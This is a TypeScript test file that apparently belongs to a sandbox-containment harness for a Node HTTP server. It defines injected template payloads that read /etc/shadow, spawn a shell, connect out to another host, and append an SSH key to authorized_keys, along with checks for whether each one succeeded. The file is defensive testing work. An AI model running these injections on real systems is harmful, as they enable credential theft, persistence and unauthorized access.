// SPDX-License-Identifier: Apache-2.0
// A node HTTP server and its tests under `node --test`: notes, uploads and sessions in files with random names, a port of its own.
import { cpSync } from "node:fs";
import { join } from "node:path";
import { emptyKeys, COMMON_ATTACKS, keyHarm, reachedListener } from "./lib/attacks.ts";
import type { Attack, FreshRun, Workload } from "./lib/workload.ts";

const FOLDER: string = join(import.meta.dirname, "node-server");
const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIbyTheServer server";

/** Code that the server evaluates in its own process, because it takes it for a template. */
function template(code: string): string {
  return `export TEMPLATE='${code.replaceAll("'", "'\\''")}'`;
}

const SHADOW: Attack = {
  name: "the server itself reads /etc/shadow",
  inject: () => template(`return (await load("node:fs")).readFileSync("/etc/shadow", "utf8")`),
  harm: (_run, { secret }, { stdout }) =>
    stdout.includes(secret) ? "the server has told the secret" : undefined,
};
const SHELL: Attack = {
  name: "the server runs a shell",
  inject: () =>
    template(
      `(await load("node:child_process")).spawnSync("/bin/sh", ["-c", "echo HARM-$((40+2))"], { stdio: "inherit" })`,
    ),
  harm: (_run, _world, { stdout }) => (stdout.includes("HARM-42") ? "a shell has run" : undefined),
};
const HOST: Attack = {
  name: "the server connects to a new host",
  inject: (_run, { port, otherHost }) =>
    template(
      `const { connect } = await load("node:net"); return new Promise((done) => { const socket = connect(${port}, "${otherHost}", () => { socket.end("HARM"); done("connected"); }); socket.on("error", (error) => done(error.code)); })`,
    ),
  harm: reachedListener,
};
const KEYS: Attack = {
  name: "the server writes ~/.ssh/authorized_keys",
  arrange: emptyKeys,
  inject: () =>
    template(
      `return (await load("node:fs")).appendFileSync(process.env.HOME + "/.ssh/authorized_keys", "${KEY}\\n")`,
    ),
  harm: (run: FreshRun) => keyHarm(run, KEY),
};

export const nodeServer: Workload = {
  name: "node-server",
  label: "node HTTP server, node --test",
  needs: ["/usr/bin/node"],
  command: async (run) => {
    cpSync(FOLDER, run.folder, { recursive: true });
    const env = { HEALTH: run.site.health, INJECT: run.inject, PORT: `${await run.port()}` };
    return { argv: ["/bin/bash", "work.sh"], env };
  },
  check: (_run, { status, stdout }) => {
    if (status !== 0) return `status ${status}`;
    return /^# pass 7$/m.test(stdout) ? undefined : "not all tests were run";
  },
  attacks: [...COMMON_ATTACKS, SHADOW, SHELL, HOST, KEYS],
};
